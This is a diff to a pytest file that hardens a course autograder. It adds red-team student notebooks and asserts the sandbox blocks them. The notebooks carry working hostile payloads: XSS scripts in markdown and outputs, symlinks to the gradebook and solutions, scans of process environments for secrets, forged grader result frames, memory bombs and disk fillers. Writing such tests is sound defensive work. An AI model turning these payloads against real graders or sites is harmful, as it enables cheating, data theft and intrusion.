@@ -7,8 +7,11 @@ private copy changes; no connection reaches the grader's loopback; no feedback s
 
 import hashlib
 import json
+import os
+import re
 import socket
 import sqlite3
+import tempfile
 import threading
 from pathlib import Path
 
@@ -27,6 +30,7 @@ needs_bwrap = pytest.mark.skipif(not sandbox.available(),
                                         "sandbox tests (`make test` does where it can)")
 
 A = "06_metrics"
+ENV_CANARY = "GRADER-ENVIRONMENT-CANARY"
 TOTAL = sum(ex.points for ex in exercises(A))
 POINTS = {ex.function: ex.points for ex in exercises(A)}
 
@@ -198,7 +202,7 @@ def build_class(root: Path, port: int) -> dict:
                                  "    return sk(t[keep], p[keep], labels=list(range(num_classes))).astype(np.int64)")
     write("forbidden_calls", nb)
     plan["forbidden_calls"] = (TOTAL - POINTS["mean_iou"] - POINTS["confusion_matrix"],
-                               ["coursekit.metrics", "sklearn.metrics.confusion_matrix"])
+                               ["coursekit.metrics", "uses sklearn, which this exercise does not allow"])
 
     nb = copy_full()
     secrets = [root / "autograder" / "gradebook.db", root / "solutions" / A / f"{A}.ipynb",
@@ -214,11 +218,146 @@ def build_class(root: Path, port: int) -> dict:
            f"            db.execute(\"update student set first_name = 'pwned'\")\n            db.commit()\n"
            f"        except Exception:\n            pass\n"
            f"try:\n    socket.create_connection(('127.0.0.1', {port}), timeout=2).close()\n    found.append('network')\n"
-           f"except OSError:\n    pass\nprint('SPY FOUND', sorted(found))")
+           f"except OSError:\n    pass\n"
+           f"for pid in os.listdir('/proc'):\n    try:\n"
+           f"        if b'{ENV_CANARY}' in open(f'/proc/{{pid}}/environ', 'rb').read():\n"
+           f"            found.append('environ of ' + pid)\n    except OSError:\n        pass\n"
+           f"if '{ENV_CANARY}' in repr(dict(os.environ)):\n    found.append('environ')\n"
+           f"print('SPY FOUND', sorted(found))")
     append_to(nb, "iou_per_class", spy)
     write("spy", nb)
     plan["spy"] = (TOTAL, [])
+    build_second_round(root, plan, write, copy_full, port)
     return plan
+
+
+# ---------------------------------------------------------------------------------------------------------------
+# the second red team's attacks (each one won against the grader before it was hardened)
+
+CANARY = "CANARY-root-only-0600"
+XSS = ("fetch('http://127.0.0.1:{port}/xss-' + location.pathname);"
+       "fetch('/api/contents/pwned-by-{where}.txt', {{method: 'PUT', headers: {{'Content-Type': 'application/json'}},"
+       " body: JSON.stringify({{type: 'file', format: 'text', content: 'pwned'}})}})")
+
+
+def xss_notebook(nb, port):
+    """Scripts in a markdown cell (a script tag, an onerror attribute) and in outputs (HTML, JavaScript)."""
+    md = nbformat.v4.new_markdown_cell(
+        f"Thanks for grading!<script>{XSS.format(port=port, where='markdown')}</script>\n\n"
+        f"<img src=\"x\" onerror=\"{XSS.format(port=port, where='onerror')}\">")
+    nb.cells.insert(1, md)
+    html = f"<script>{XSS.format(port=port, where='html')}</script><b>bold</b>"
+    append_to(nb, "pixel_accuracy",
+              "from IPython.display import HTML, Javascript, display\n"
+              f"display(HTML({html!r}))\n"
+              f"display(Javascript({XSS.format(port=port, where='javascript')!r}))")
+    return nb
+
+
+def build_second_round(root: Path, plan: dict, write, copy_full, port: int) -> None:
+    submitted = root / "autograder" / "submitted"
+    secret_files = {"seed": root / "autograder" / ".grading_seed", "gradebook": root / "autograder" / "gradebook.db",
+                    "solution": root / "solutions" / A / f"{A}.ipynb", "canary": root / "canary.txt"}
+
+    # 1. scripts for the formgrader and the feedback page (an honest notebook otherwise)
+    write("xss", xss_notebook(copy_full(), port))
+    plan["xss"] = (TOTAL, [])
+
+    # 2. a submission that is a link to the solution, and one with a link to the gradebook beside the notebook
+    (submitted / "link_solution" / A).mkdir(parents=True)
+    (submitted / "link_solution" / A / f"{A}.ipynb").symlink_to(secret_files["solution"])
+    plan["link_solution"] = (0, ["link"])
+    nb = copy_full()
+    append_to(nb, "iou_per_class", "import os\ntry:\n    print('LINKED GRADEBOOK', len(open('gradebook.db', 'rb').read()))\n"
+                                   "except OSError:\n    print('LINKED GRADEBOOK none')")
+    write("link_gradebook", nb)
+    (submitted / "link_gradebook" / A / "gradebook.db").symlink_to(secret_files["gradebook"])
+    plan["link_gradebook"] = (TOTAL, ["gradebook.db", "links"])
+
+    # 3. links the kernel plants in its own folder, and its notebook replaced by a link to a root-only file
+    targets = {name: str(path) for name, path in secret_files.items()}
+    nb = copy_full()
+    append_to(nb, "mean_iou", f"import os\nfor name, target in {targets!r}.items():\n"
+                              f"    os.symlink(target, 'planted-' + name)\n"
+                              f"os.unlink('{A}.ipynb')\nos.symlink({str(secret_files['canary'])!r}, '{A}.ipynb')\n"
+                              "import socket\ns = socket.socket(socket.AF_UNIX)\ns.bind('planted.sock')")
+    write("planter", nb)
+    plan["planter"] = (TOTAL, [])
+
+    # 4. a forbidden peer called in a thread
+    nb = copy_full()
+    edit(nb, "confusion_matrix", "import threading\nimport numpy as np\n\n"
+                                 "def confusion_matrix(pred, target, num_classes, ignore_index=255):\n"
+                                 "    out = []\n    def work():\n        from sklearn.metrics import confusion_matrix as sk\n"
+                                 "        t, p = np.ravel(target), np.ravel(pred)\n        keep = t != ignore_index\n"
+                                 "        out.append(sk(t[keep], p[keep], labels=list(range(num_classes))).astype(np.int64))\n"
+                                 "    th = threading.Thread(target=work)\n    th.start()\n    th.join()\n    return out[0]")
+    write("thread_peer", nb)
+    plan["thread_peer"] = (TOTAL - POINTS["confusion_matrix"], [])
+
+    # 5. and 6. forged reports: an atexit handler and the function itself write results on every descriptor and as
+    # files, and a result file is planted as a link to a root-only file
+    forge = ("import atexit, json, os\n"
+             "def forge():\n"
+             "    header = json.dumps({'kind': 'result', 'exercise': 0, 'case': 0, 'record': {'status': 'ok', "
+             "'result': {'none': True}}, 'arrays': []}).encode()\n"
+             "    for fd in range(3, 256):\n"
+             "        try:\n            os.write(fd, b'CKR1' + len(header).to_bytes(4, 'big') + header)\n"
+             "        except OSError:\n            pass\n"
+             "    for n in range(8):\n        try:\n"
+             "            open(f'result-{n}.json', 'w').write(json.dumps({'cases': [{'status': 'ok'}]}))\n"
+             "        except OSError:\n            pass\n"
+             "atexit.register(forge)\n"
+             f"try:\n    os.symlink({str(secret_files['canary'])!r}, 'result-0.json')\nexcept OSError:\n    pass\n")
+    nb = copy_full()
+    edit(nb, "mean_iou", forge + "\nimport coursekit.metrics as ck\n\ndef mean_iou(cm):\n    forge()\n"
+                                 "    return ck.mean_iou(cm)")
+    write("forger", nb)
+    plan["forger"] = (TOTAL - POINTS["mean_iou"], [])
+
+    # 7. a declared giant array on the channel, and a giant return value
+    nb = copy_full()
+    edit(nb, "pixel_accuracy", "import json, os\n\ndef pixel_accuracy(cm):\n"
+                               "    header = json.dumps({'kind': 'result', 'exercise': 1, 'case': 0, 'record': "
+                               "{'status': 'ok', 'result': {'array': 'x'}}, 'arrays': [{'key': 'x', 'dtype': '<f8', "
+                               "'shape': [2**15, 2**15]}]}).encode()\n"
+                               "    for fd in range(3, 256):\n        try:\n"
+                               "            os.write(fd, b'CKR1' + len(header).to_bytes(4, 'big') + header + bytes(9000))\n"
+                               "        except OSError:\n            pass\n    return 0.5")
+    edit(nb, "mean_pixel_accuracy", "import numpy as np\n\ndef mean_pixel_accuracy(cm):\n"
+                                    "    return np.broadcast_to(np.float64(0.5), (2**15, 2**15))")
+    write("bomb", nb)
+    plan["bomb"] = (TOTAL - POINTS["pixel_accuracy"] - POINTS["mean_pixel_accuracy"], [])
+
+    # 8. filling the sandbox's memory-backed folders
+    nb = copy_full()
+    append_to(nb, "dice_per_class", "import os\ntotals = {}\nfor where in ('/tmp', '.'):\n    n = 0\n"
+                                    "    try:\n        for i in range(100):\n"
+                                    "            with open(os.path.join(where, f'fill{i}'), 'wb') as fh:\n"
+                                    "                for _ in range(16):\n"
+                                    "                    fh.write(bytes(2**20))\n                    n += 2**20\n"
+                                    "    except OSError:\n        pass\n    totals[where] = n\n"
+                                    "print('FILLED', totals['/tmp'] // 2**20, totals['.'] // 2**20)")
+    write("filler", nb)
+    plan["filler"] = (TOTAL, [])
+
+    # 10. the metrics from unforbidden peers of scikit-learn and SciPy
+    nb = copy_full()
+    edit(nb, "confusion_matrix", "import numpy as np\nfrom scipy.stats.contingency import crosstab\n\n"
+                                 "def confusion_matrix(pred, target, num_classes, ignore_index=255):\n"
+                                 "    t, p = np.ravel(target), np.ravel(pred)\n    keep = t != ignore_index\n"
+                                 "    labels = np.arange(num_classes)\n"
+                                 "    return crosstab(t[keep], p[keep], levels=(labels, labels)).count.astype(np.int64)")
+    edit(nb, "iou_per_class", "import numpy as np\n\ndef iou_per_class(cm):\n"
+                              "    from sklearn.metrics import multilabel_confusion_matrix\n"
+                              "    cm = np.asarray(cm)\n    tp = np.diag(cm).astype(float)\n"
+                              "    union = cm.sum(0) + cm.sum(1) - tp\n"
+                              "    with np.errstate(invalid='ignore', divide='ignore'):\n"
+                              "        return np.where(union > 0, tp / union, np.nan)")
+    write("peers", nb)
+    # mean_iou of the solution calls iou_per_class: it fails with it
+    plan["peers"] = (TOTAL - POINTS["confusion_matrix"] - POINTS["iou_per_class"] - POINTS["mean_iou"],
+                     ["uses scipy, which this exercise does not allow", "uses sklearn"])
 
 
 @needs_bwrap
@@ -228,7 +367,7 @@ def test_a_class_of_attacks(tmp_path):
 
     release(root, log=lambda *a: None)
     options = GradeOptions(jobs=2, case_seconds=20, limits=sandbox.Limits(
-        memory_mb=3072, processes=64, cell_seconds=20, student_seconds=240, output_mb=2.0))
+        memory_mb=3072, processes=64, cell_seconds=20, student_seconds=150, output_mb=2.0, scratch_mb=64))
 
     # a bystander graded earlier: no attack may change their record
     make_samples(root, A, log=lambda *a: None)
@@ -249,14 +388,22 @@ def test_a_class_of_attacks(tmp_path):
     before = bystander_rows()
     assert before and sum(r[0] for r in before) == 5.0
 
+    canary = root / "canary.txt"
+    canary.write_text(CANARY)
+    canary.chmod(0o600)
+    modes = {p: p.stat().st_mode for p in (canary, root / "autograder" / ".grading_seed", db)}
     listener = Listener()
+    skip = ("autograder/autograded/", "autograder/feedback/", "autograder/grades/", "autograder/gradebook.db",
+            "autograder/submitted/renamed/", "autograder/submitted/link_")
+    temp_before = set(os.listdir(tempfile.gettempdir()))
     try:
         plan = build_class(root, listener.port)
-        protected = tree_digest(root, skip=("autograder/autograded/", "autograder/feedback/", "autograder/grades/",
-                                            "autograder/gradebook.db", "autograder/submitted/renamed/"))
+        protected = tree_digest(root, skip=skip)
         students = sorted(plan)
+        os.environ[ENV_CANARY] = ENV_CANARY
         report = grade_class(root, A, students=students, options=options, log=lambda *a: None, progress=False)
     finally:
+        os.environ.pop(ENV_CANARY, None)
         listener.close()
 
     results = {r.student: r for r in report.results}
@@ -278,14 +425,42 @@ def test_a_class_of_attacks(tmp_path):
 
     # nobody touched the bystander, the course, or the network
     assert bystander_rows() == before
-    assert tree_digest(root, skip=("autograder/autograded/", "autograder/feedback/", "autograder/grades/",
-                                   "autograder/gradebook.db", "autograder/submitted/renamed/")) == protected
+    assert tree_digest(root, skip=skip) == protected
     assert listener.connections == 0
+    assert {p: p.stat().st_mode for p in modes} == modes, "a protected file's mode changed"
+    assert canary.read_text() == CANARY
+    left = sorted(n for n in set(os.listdir(tempfile.gettempdir())) - temp_before
+                  if n.startswith(("ck-", "coursekit-grade-", "cleanroom-", "student-")))
+    assert not left, f"temporary folders left behind: {left}"
 
     # the spy saw nothing of the grader's world
     spy = nbformat.read(root / "autograder" / "autograded" / "spy" / A / f"{A}.ipynb", as_version=4)
     printed = "".join(o.get("text", "") for c in spy.cells if c.cell_type == "code" for o in c.get("outputs", []))
     assert "SPY FOUND []" in printed, printed[-500:]
+
+    def printed_by(student):
+        nb = nbformat.read(root / "autograder" / "autograded" / student / A / f"{A}.ipynb", as_version=4)
+        return "".join(o.get("text", "") for c in nb.cells if c.cell_type == "code" for o in c.get("outputs", []))
+
+    # links: refused in the submission, and those the kernel planted never reached the grader's folders
+    assert "LINKED GRADEBOOK none" in printed_by("link_gradebook")
+    for student in ("planter", "link_gradebook", "xss"):
+        kept = sorted(p.name for p in (root / "autograder" / "feedback" / student / A).iterdir())
+        assert kept == [f"{A}.html"], f"{student}: feedback folder holds {kept}"
+        graded = root / "autograder" / "autograded" / student / A
+        assert all(p.is_file() and not p.is_symlink() for p in graded.iterdir()), sorted(graded.iterdir())
+    assert not any("CANARY" in r.reason + json.dumps(r.exercises) for r in results.values())
+
+    # the sandbox's writable folders are small and in memory: filling them stops at their size
+    filled = re.search(r"FILLED (\d+) (\d+)", printed_by("filler"))
+    assert filled and int(filled.group(1)) <= options.limits.scratch_mb and \
+        int(filled.group(2)) <= options.limits.scratch_mb, printed_by("filler")[-300:]
+
+    # students' scripts are not in the feedback page, which allows none anyway
+    page = (root / "autograder" / "feedback" / "xss" / A / f"{A}.html").read_text()
+    assert "script-src 'none'" in page
+    assert not re.search(r"<script", page, re.I), "a script tag in the feedback page"
+    assert not re.search(r"<[^>]*\son[a-z]+\s*=", page, re.I), "an event handler in the feedback page"
 
     # feedback: every graded student has a page, with no hidden test in it
     for student, r in results.items():
